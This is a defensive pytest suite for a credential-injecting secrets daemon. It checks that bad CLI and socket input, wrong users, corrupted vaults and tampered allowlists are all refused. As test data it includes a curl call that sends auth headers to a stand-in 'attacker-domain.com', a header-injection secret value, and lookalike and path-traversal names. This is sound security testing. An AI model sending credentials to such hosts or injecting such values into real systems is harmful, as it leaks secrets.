"""Must show 7: bad input to every command. Each is refused with a sentence, and nothing is lost."""

import base64
import json
import os
import shutil
import socket
import subprocess

import pytest

from helpers import AUTH, STRIPE, curl, forms, reason, refused, state_of, works
from lab import NOBODY

ADD = ("workspace", "allowlist", "add")
SET = ("secrets", "set", "K", "--host", "api.stripe.com")
LONG = "a" * 64

# (arguments, standard input)
BAD = {
    # hosts
    **{f"host {h[:40]!r}": ((*ADD, h), None) for h in (
        "bad host", "http://api.stripe.com", "https://api.stripe.com/v1", "localhost", "com", "a..b.com", ".a.com", "-a.com",
        "a-.com", "a_b!.com", "a.com/path", "user@a.com", "*", "*.*.com", "a.*.com", "*a.com", "**.a.com", "1.2.3.4", "10.0.1.5",
        "::1", "[::1]", "0x7f.1", "127.1", "2130706433", "a.com:0", "a.com:65536", "a.com:x", "a.com:", "m\u00fcller.de",
        "\u0430pi.stripe.com", "a.com\t", "a.com\n", " a.com", f"{LONG}.com", ".".join(["abcdefgh"] * 30) + ".com", "", "xn--.com")},
    "good host and bad host": ((*ADD, "good.lab-host.com", "bad host"), None),
    "allowlist add nothing": (ADD, None),
    "allowlist remove nothing": (("workspace", "allowlist", "remove"), None),
    "allowlist remove unlisted": (("workspace", "allowlist", "remove", "never.lab-host.com"), None),
    "allowlist remove another port": (("workspace", "allowlist", "remove", "api.stripe.com:444"), None),
    "allowlist of unknown workspace": (("workspace", "allowlist", "list", "--workspace", "nope"), None),
    # workspaces
    **{f"workspace {w[:20]!r}": (("workspace", "create", w), None) for w in (
        "", "Demo", "a b", "../x", "a/b", ".", "..", "-a", "a_b", "\u00e9", "a" * 64)},
    "workspace that exists": (("workspace", "create", "demo"), None),
    "use unknown workspace": (("workspace", "use", "nope"), None),
    "delete unknown workspace": (("workspace", "delete", "nope"), None),
    # secrets
    "empty value": (SET, b""),
    "only a newline": (SET, b"\n"),
    "NUL in the value": (SET, b"abc\0def"),
    "newline in the value": (SET, b"abc\r\nX-Injected: yes"),
    "control byte in the value": (SET, b"abc\x1bdef"),
    "1 MiB value": (SET, b"x" * (1 << 20)),
    "value over the limit by one": (SET, b"x" * 16385),
    **{f"secret name {n[:20]!r}": (("secrets", "set", n, "--host", "api.stripe.com"), b"v") for n in (
        "", "lower", "A-B", "1A", "A B", "../A", "A=B", "A" * 129, "\u00c4")},
    "value as an argument": (("secrets", "set", "K", "the-value", "--host", "api.stripe.com"), b""),
    "secret for a bad host": (("secrets", "set", "K", "--host", "bad host"), b"v"),
    "secret for a bad slot": (("secrets", "set", "K", "--host", "api.stripe.com", "--slot", "cookiejar"), b"v"),
    "secret in unknown workspace": (("secrets", "set", "K", "--host", "api.stripe.com", "--workspace", "nope"), b"v"),
    "delete unknown secret": (("secrets", "delete", "NOPE"), None),
    # run
    "run nothing": (("run", "--workspace", "demo"), None),
    "run nothing after --": (("run", "--workspace", "demo", "--"), None),
    "run in unknown workspace": (("run", "--workspace", "nope", "--", "true"), None),
    "run in bad workspace": (("run", "--workspace", "../demo", "--", "true"), None),
    "run a missing program": (("run", "--workspace", "demo", "--", "/no/such/program"), None),
    "run a folder": (("run", "--workspace", "demo", "--", "/tmp"), None),
    # words
    "init twice": (("init",), None),
    "unknown command": (("secret", "set"), None),
    "unknown command below": (("workspace", "frobnicate"), None),
    "unknown option": (("status", "--frobnicate"), None),
    "option without value": (("run", "--workspace"), None),
    "too many arguments": (("status", "extra"), None),
}


@pytest.mark.parametrize("name", BAD)
def test_bad_input(world, name):
    args, given = BAD[name]
    d = world.daemons[0]
    before, reads = state_of(d), d.reads()
    p = world.cli(*args, input=given)
    said = refused(p)
    if given:  # a rejected value is not quoted
        assert given.decode("latin-1").strip()[:64] not in said or len(given) < 3
    assert "the-value" not in said
    assert state_of(d) == before
    assert d.reads() == reads


def test_no_command(world):
    """Nothing or half a command typed: the usage, on stderr."""
    for words in ((), ("workspace",), ("secrets",)):
        p = world.cli(*words)
        assert p.returncode == 2 and p.stdout == "" and p.stderr.startswith("Usage: agentsecrets"), (words, p)


def test_exit_statuses(world):
    assert world.cli("frobnicate").returncode == 2
    assert world.agent("/no/such/program").returncode == 127
    assert world.agent("/etc/passwd").returncode == 126
    assert world.cli("run", "--workspace", "nope", "--", "true").returncode == 125


@pytest.mark.parametrize("words", [
    ("init",), ("workspace", "create", "x"), ("workspace", "list"), ("workspace", "use", "demo"), ("workspace", "delete", "demo"),
    (*ADD, "a.com"), ("workspace", "allowlist", "remove", "a.com"), ("workspace", "allowlist", "list"),
    ("workspace", "allowlist", "verify"), SET, ("secrets", "list"), ("secrets", "delete", "K"),
    ("run", "--workspace", "demo", "--", "true"), ("cgroup", "list"), ("status",), ("log",), ("doctor",)], ids=" ".join)
def test_missing_daemon(world, words):
    for control in (world.home / "nobody-here.sock", world.home):
        said = refused(world.cli(*words, input=b"value", daemon=Elsewhere(control)))
        assert "agentsecretsd" in said or "daemon" in said, said


class Elsewhere:
    """Stands for a daemon that is not there."""

    def __init__(self, control):
        self.control = control


WRONG_USER = {
    "init": ("init",), "create": ("workspace", "create", "mine"), "delete": ("workspace", "delete", "demo"),
    "add": (*ADD, "attacker-domain.com", "--workspace", "demo"), "remove": ("workspace", "allowlist", "remove", "api.stripe.com", "--workspace", "demo"),
    "list": ("workspace", "allowlist", "list", "--workspace", "demo"), "set": (*SET, "--workspace", "demo"),
    "secrets list": ("secrets", "list", "--workspace", "demo"), "secrets delete": ("secrets", "delete", "STRIPE_KEY", "--workspace", "demo"),
    "run": ("run", "--workspace", "demo", "--", "true"), "use": ("workspace", "use", "demo"), "log": ("log",),
    "own allowlist": (*ADD, "attacker-domain.com", "--workspace", "ordinary"), "own secret": (*SET, "--workspace", "ordinary"),
}


@pytest.mark.parametrize("name", WRONG_USER)
def test_wrong_user(world, name):
    d = world.daemons[0]
    before = state_of(d)
    refused(world.cli(*WRONG_USER[name], input=b"value", uid=NOBODY))
    assert state_of(d) == before


@pytest.mark.parametrize("line", [
    b"\n", b"{}\n", b"[]\n", b"null\n", b"{\"op\":1}\n", b"{\"op\":\"frobnicate\"}\n", b"{\"op\":\"status\",\"more\":1}\n",
    b"{\"op\":\"status\",\"op\":\"init\"}\n", b"{\"op\":\"status\"} {\"op\":\"status\"}\n", b"\xff\xfe\n", b"{\"op\":\"stat\0us\"}\n",
    b"{\"op\":\"workspace.create\"}\n", b"{\"op\":\"workspace.create\",\"workspace\":[]}\n", b"[" * 100000 + b"\n", b"x" * 300000 + b"\n",
    b"{\"op\":\"secrets.set\",\"workspace\":\"demo\",\"name\":\"K\"}\n", b"{\"op\":\"allowlist.add\",\"workspace\":\"demo\",\"rules\":[{\"host\":\"a.com\",\"hots\":1}]}\n",
    b"{\"op\":\"allowlist.add\",\"workspace\":\"demo\",\"rules\":{}}\n", b"{\"op\":\"run.enter\",\"workspace\":\"nope\"}\n"],
    ids=lambda b: repr(b[:40]))
def test_bad_control_lines(world, line):
    d = world.daemons[0]
    before = state_of(d)
    with socket.socket(socket.AF_UNIX) as s:
        s.settimeout(15)
        s.connect(str(d.control))
        answer = b""
        try:
            s.sendall(line)
            while more := s.recv(65536):
                answer += more
        except ConnectionError:
            pass
    if answer:
        said = json.loads(answer)
        assert said["ok"] is False and len(said["error"]) > 10, said
    assert state_of(d) == before


# ---- what stands on disk ----

def expect_no_credential(lab, why=None):
    """The guarded call gets no answer of the upstream, and the key goes nowhere."""
    upstream = len(lab.requests())
    p = lab.agent("curl", "-sS", "-m", "20", "-w", "\n%{http_code}", STRIPE, *AUTH)
    if p.returncode == 0:
        body, code = p.stdout.rsplit("\n", 1)
        assert code in ("403", "502"), p.stdout
        assert why is None or reason(body) in why, p.stdout
    else:
        assert '"object":"list"' not in p.stdout
    assert len(lab.requests()) == upstream


def vault_flip(path, key):
    data = bytearray(path.read_bytes())
    data[len(data) // 2] ^= 1
    path.write_bytes(data)


VAULTS = {
    "a bit flipped": vault_flip,
    "first byte flipped": lambda path, key: path.write_bytes(bytes([path.read_bytes()[0] ^ 1]) + path.read_bytes()[1:]),
    "last byte flipped": lambda path, key: path.write_bytes(path.read_bytes()[:-1] + bytes([path.read_bytes()[-1] ^ 1])),
    "cut": lambda path, key: path.write_bytes(path.read_bytes()[:-10]),
    "empty": lambda path, key: path.write_bytes(b""),
    "a byte more": lambda path, key: path.write_bytes(path.read_bytes() + b"\0"),
    "missing": lambda path, key: path.unlink(),
    "other key": lambda path, key: key.write_bytes(os.urandom(32)),
    "short key": lambda path, key: key.write_bytes(key.read_bytes()[:31]),
    "no key": lambda path, key: key.unlink(),
}


@pytest.mark.parametrize("how", VAULTS)
def test_corrupt_vault(fresh, how):
    """It does not serve from it, says so, does not make a new one over it, and takes the good one again."""
    lab, d = fresh, fresh.daemons[0]
    vault, key = d.state / "vault" / "vault.bin", d.state / "vault.key"
    works(lab)
    d.stop()
    keep = lab.private / "keep"
    shutil.copytree(d.state, keep, symlinks=True)
    VAULTS[how](vault, key)
    broken = vault.read_bytes() if vault.exists() else None
    try:
        d.start()
    except Exception:  # it may refuse to start at all
        assert d.proc.poll() not in (None, 0), d.messages()
    else:
        expect_no_credential(lab)
        p = lab.cli("secrets", "set", "NEW", "--host", "api.stripe.com", input=b"new")
        refused(p)
        d.stop()
    assert "vault" in d.messages(), d.messages()[-500:]
    assert (vault.read_bytes() if vault.exists() else None) == broken, "the broken vault was written over"
    for path, owner in ((vault, vault.parent.stat()), (key, key.parent.stat())):
        good = keep / path.relative_to(d.state)
        path.write_bytes(good.read_bytes())
        os.chmod(path, good.stat().st_mode & 0o777)
        os.chown(path, owner.st_uid, owner.st_gid)
    d.start()
    works(lab)


def sign_with_another_key(document):
    """A good Ed25519 signature by a key that is not ours."""
    work = document.parent
    key, sig, copy = work / "k.pem", work / "s", work / "d"
    copy.write_bytes(document.read_bytes())
    subprocess.run(["openssl", "genpkey", "-algorithm", "ed25519", "-out", str(key)], check=True, capture_output=True)
    subprocess.run(["openssl", "pkeyutl", "-sign", "-rawin", "-inkey", str(key), "-in", str(copy), "-out", str(sig)], check=True, capture_output=True)
    (work / "allowlist.sig").write_bytes(sig.read_bytes())
    for f in (key, sig, copy):
        f.unlink()


def edit(document, change):
    document.write_bytes(change(document.read_bytes()))


DOCUMENTS = {
    "host added": lambda doc, old: edit(doc, lambda b: b.replace(b"api.openai.com", b"attacker-domain.com")),
    "white space": lambda doc, old: edit(doc, lambda b: b + b" "),
    "not JSON": lambda doc, old: doc.write_bytes(b"\0" * 100),
    "empty": lambda doc, old: doc.write_bytes(b""),
    "other key": lambda doc, old: (edit(doc, lambda b: b.replace(b"api.openai.com", b"attacker-domain.com")), sign_with_another_key(doc)),
    "signature cut": lambda doc, old: edit(doc.with_suffix(".sig"), lambda b: b[:63]),
    "signature missing": lambda doc, old: doc.with_suffix(".sig").unlink(),
    "older version": lambda doc, old: (doc.write_bytes(old[0]), doc.with_suffix(".sig").write_bytes(old[1])),
    "another workspace's": lambda doc, old: [(doc.parent / n).write_bytes((doc.parent.parent / "ordinary" / n).read_bytes())
                                             for n in ("allowlist.json", "allowlist.sig")],
    "huge": lambda doc, old: doc.write_bytes(b"[" * (1 << 20)),
}


@pytest.mark.parametrize("how", DOCUMENTS)
def test_altered_allowlist(fresh, how):
    """A document that does not verify, or is older, is refused; the last good one stays in force."""
    lab, d = fresh, fresh.daemons[0]
    doc = d.state / "workspaces" / "demo" / "allowlist.json"
    # The older one allowed attacker-domain.com; the last good one does not.
    lab.must(*ADD, "attacker-domain.com")
    old = (doc.read_bytes(), doc.with_suffix(".sig").read_bytes())
    assert len(old[1]) == 64
    lab.must("workspace", "allowlist", "remove", "attacker-domain.com")
    lab.must("workspace", "allowlist", "verify")
    before = d.ask(op="allowlist.list", workspace="demo")
    DOCUMENTS[how](doc, old)
    refused(lab.cli("workspace", "allowlist", "verify"))
    d.stop()
    d.start()
    refused(lab.cli("workspace", "allowlist", "verify"))
    assert d.ask(op="allowlist.list", workspace="demo") == before
    assert curl(lab, "https://attacker-domain.com/", *AUTH)[0] == 403
    assert lab.leaks() == []
    works(lab)
    assert "demo" in d.messages()


def test_altered_trust(fresh):
    """If the daemon's own copy is altered too there is no last good one: nothing is allowed."""
    lab, d = fresh, fresh.daemons[0]
    works(lab)
    d.stop()
    for doc in (d.state / "workspaces" / "demo" / "allowlist.json", d.state / "trust" / "demo.json"):
        edit(doc, lambda b: b.replace(b"api.openai.com", b"attacker-domain.com"))
    d.start()
    expect_no_credential(lab)
    p = lab.cli("run", "--workspace", "demo", "--", "curl", "-sS", "https://attacker-domain.com/", *AUTH)
    assert "leaked" not in p.stdout and lab.leaks() == []


def test_vault_holds_no_plain_value(world):
    data = (world.daemons[0].state / "vault" / "vault.bin").read_bytes()
    for name, key in world.keys.items():
        assert not any(f in data for f in forms(key)), name
        assert base64.b64encode(key.encode()) not in data
